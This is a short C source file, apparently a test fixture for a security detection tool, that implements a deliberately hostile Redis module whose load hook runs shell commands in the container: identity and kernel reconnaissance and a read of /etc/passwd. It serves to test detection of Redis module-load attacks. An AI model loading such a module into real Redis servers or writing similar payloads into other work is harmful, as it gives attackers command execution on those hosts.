/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * A hostile redis module, as attackers upload it once they can reach a redis: MODULE LOAD runs
 * its RedisModule_OnLoad, and that starts a shell in the container. The demo and the live tests
 * attack with it, so that what bosc finds is the real thing and not a stand-in.
 *
 * No package ships redismodule.h, so the two functions needed are declared here: redis passes a
 * context whose first word is the address of its function to look up all others.
 */
#include <stdlib.h>

#define REDISMODULE_OK	   0
#define REDISMODULE_ERR	   1
#define REDISMODULE_APIVER 1

struct RedisModuleCtx {
	int (*get_api)(const char *name, void *ret_function);
};

typedef void set_attributes(struct RedisModuleCtx *ctx, const char *name, int version, int api);

int RedisModule_OnLoad(struct RedisModuleCtx *ctx);

int RedisModule_OnLoad(struct RedisModuleCtx *ctx)
{
	set_attributes *set = NULL;

	if (ctx->get_api("RedisModule_SetModuleAttribs", &set) != REDISMODULE_OK || !set)
		return REDISMODULE_ERR;
	set(ctx, "lab", 1, REDISMODULE_APIVER);

	/* What it prints goes to the container's log. */
	return system("id; cat /etc/passwd; uname -a") ? REDISMODULE_ERR : REDISMODULE_OK;
}
